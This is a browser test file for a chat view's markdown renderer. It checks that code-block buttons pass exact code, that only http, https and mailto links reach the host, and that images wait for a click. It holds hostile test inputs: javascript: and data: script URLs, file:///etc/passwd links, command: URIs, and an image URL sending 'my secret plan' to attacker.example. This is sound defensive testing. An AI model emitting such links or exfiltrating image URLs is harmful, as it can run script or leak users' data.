// What the markdown renderer's buttons, links and images hand to the host, in a real Chromium page with the chat
// view's CSP: exact code for Copy / Insert / Apply, only safe links, and no image before a click.
import assert from 'node:assert/strict';
import { useMarkdownPage } from './fixtures/markdown-page.js';

describe('markdown renderer: code actions, links and images', function () {
  this.timeout(30_000);
  const md = useMarkdownPage();

  it('Copy, Insert and Apply hand the exact code of their block to the hooks', async () => {
    const first = 'const greeting = `héllo <b>${name}</b>`;\n\tif (a && b) {}   \n// 中文 😀';
    const second = 'SELECT * FROM t WHERE x = \'a\\b\';';
    await md().page.evaluate((text) => window.mount().view.set(text), `Intro\n\n\`\`\`ts\n${first}\n\`\`\`\n\n\`\`\`sql\n${second}\n\`\`\`\n`);
    const page = md().page;
    await page.getByRole('button', { name: 'Copy' }).first().click();
    await page.getByRole('button', { name: 'Insert at Cursor' }).first().click();
    await page.getByRole('button', { name: 'Apply' }).first().click();
    await page.getByRole('button', { name: 'Apply' }).nth(1).click();
    await page.getByRole('button', { name: 'Insert at Cursor' }).nth(1).click();
    const { calls } = await md().records();
    assert.deepEqual(calls, [
      ['onCopy', first],
      ['onInsert', first],
      ['onApply', first, 'ts'],
      ['onApply', second, 'sql'],
      ['onInsert', second],
    ]);
    assert.equal(await page.getByRole('button', { name: 'Copied' }).count(), 1, 'Copy says Copied');
    await page.getByRole('button', { name: 'Copied' }).waitFor({ state: 'detached', timeout: 5000 });
    assert.equal(await page.getByRole('button', { name: 'Copy' }).count(), 2, 'and goes back to Copy');
  });

  it('passes only http, https and mailto links to onLink, and never navigates', async () => {
    const text = [
      '[https](https://example.com/a?b=1) [http](http://example.org) [mail](mailto:someone@example.com)',
      '<https://auto.example/x> https://bare.example/y?z=1 www.not-linkified.com [ref][r]',
      '[js](javascript:__pwned\\(\\)) [JS](JaVaScRiPt:__pwned()) [vb](vbscript:msgbox) [file](file:///etc/passwd)',
      '[data](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=) [cmd](command:workbench.action.openSettings)',
      '[vscode](vscode://file/etc/passwd) [rel](/relative/path) [frag](#top) [ent](&#106;avascript:__pwned())',
      '',
      '[r]: https://ref.example',
    ].join('\n');
    const shown = await md().page.evaluate((t) => {
      const { view, root } = window.mount();
      view.set(t);
      return {
        links: Array.from(root.querySelectorAll('a')).map((a) => `${a.textContent}=${a.getAttribute('data-href')}`),
        hrefs: root.querySelectorAll('[href]').length,
      };
    }, text);
    assert.deepEqual(shown.links, [
      'https=https://example.com/a?b=1',
      'http=http://example.org/',
      'mail=mailto:someone@example.com',
      'https://auto.example/x=https://auto.example/x',
      'https://bare.example/y?z=1=https://bare.example/y?z=1',
      'ref=https://ref.example/',
    ]);
    assert.equal(shown.hrefs, 0, 'no href attribute anywhere');
    const url = md().page.url();
    const clickable = md().page.locator('.md-body a, .md-body .md-link-inert');
    const count = await clickable.count();
    assert.ok(count >= 10, `links and inert links (${count})`);
    for (let i = 0; i < count; i++) await clickable.nth(i).click({ modifiers: i % 3 === 2 ? ['Shift'] : [] });
    await md().page.locator('.md-body a').first().focus();
    await md().page.keyboard.press('Enter');
    await md().page.locator('.md-body a').nth(1).click({ button: 'middle' });
    await md().page.waitForTimeout(200);
    const { calls } = await md().records();
    assert.deepEqual(calls, [
      ['onLink', 'https://example.com/a?b=1'],
      ['onLink', 'http://example.org/'],
      ['onLink', 'mailto:someone@example.com'],
      ['onLink', 'https://auto.example/x'],
      ['onLink', 'https://bare.example/y?z=1'],
      ['onLink', 'https://ref.example/'],
      ['onLink', 'https://example.com/a?b=1'],
    ]);
    assert.equal(md().page.url(), url, 'the page did not navigate');
    assert.equal(md().page.context().pages().length, 1, 'no window opened');
  });

  it('loads no image until its placeholder is clicked, then loads exactly that one', async () => {
    // The app's Dify server, another origin than the page's own (as the webview is to Dify): its signed links pass.
    const dify = md().origin.replace('127.0.0.1', 'localhost');
    await md().page.evaluate((origin) => ((window as unknown as { difyOrigin: string }).difyOrigin = origin), dify);
    const secretUrl = `${dify}/img/logo.png?secret=42`;
    const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    await md().page.evaluate(
      (text) => window.mount().view.set(text),
      `![Logo of us](${secretUrl})\n\n![inline pixel](${pixel})\n\n![relative](/img/local.png) ![cmd](command:x.png)\n\n![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)\n\n` +
        `![leak](https://attacker.example/p.png?q=my+secret+plan) ![own](${md().origin}/img/logo.png) ![cdn](https://file%2B.vscode-resource.vscode-cdn.net/etc/passwd)\n`,
    );
    await md().page.waitForTimeout(300);
    const host = new URL(dify).host;
    assert.equal(await md().page.locator('img').count(), 0, 'no <img> before a click');
    assert.deepEqual(md().served.filter((u) => u.startsWith('/img/')), [], 'the server saw no image request');
    assert.deepEqual(md().requests, [`${md().origin}/`]);
    assert.equal(await md().page.getByRole('button', { name: `Load image: Logo of us (${host})` }).count(), 1);
    assert.deepEqual(await md().page.locator('.md-image-blocked').allTextContents(), [
      'Image blocked: relative',
      'Image blocked: cmd',
      'Image blocked: carries data (attacker.example): leak',
      'Image blocked: inside VS Code: own',
      'Image blocked: inside VS Code: cdn',
    ]);
    assert.equal(await md().page.locator('.md-image-load').count(), 2, 'the svg data URL is not an image');

    const request = md().page.waitForRequest(secretUrl);
    await md().page.getByRole('button', { name: `Load image: Logo of us (${host})` }).click();
    await request;
    await md().page.getByRole('button', { name: 'Load image: inline pixel (data:)' }).click();
    const images = await md().page.evaluate(async () => {
      const imgs = Array.from(document.querySelectorAll('img'));
      await Promise.all(imgs.map((img) => img.decode().catch(() => undefined)));
      return imgs.map((img) => ({ alt: img.alt, width: img.naturalWidth, src: img.src.slice(0, 30), referrer: img.referrerPolicy }));
    });
    assert.deepEqual(images, [
      { alt: 'Logo of us', width: 1, src: secretUrl.slice(0, 30), referrer: 'no-referrer' },
      { alt: 'inline pixel', width: 1, src: pixel.slice(0, 30), referrer: 'no-referrer' },
    ]);
    assert.deepEqual(md().served.filter((u) => u.startsWith('/img/')), ['/img/logo.png?secret=42']);
  });
});
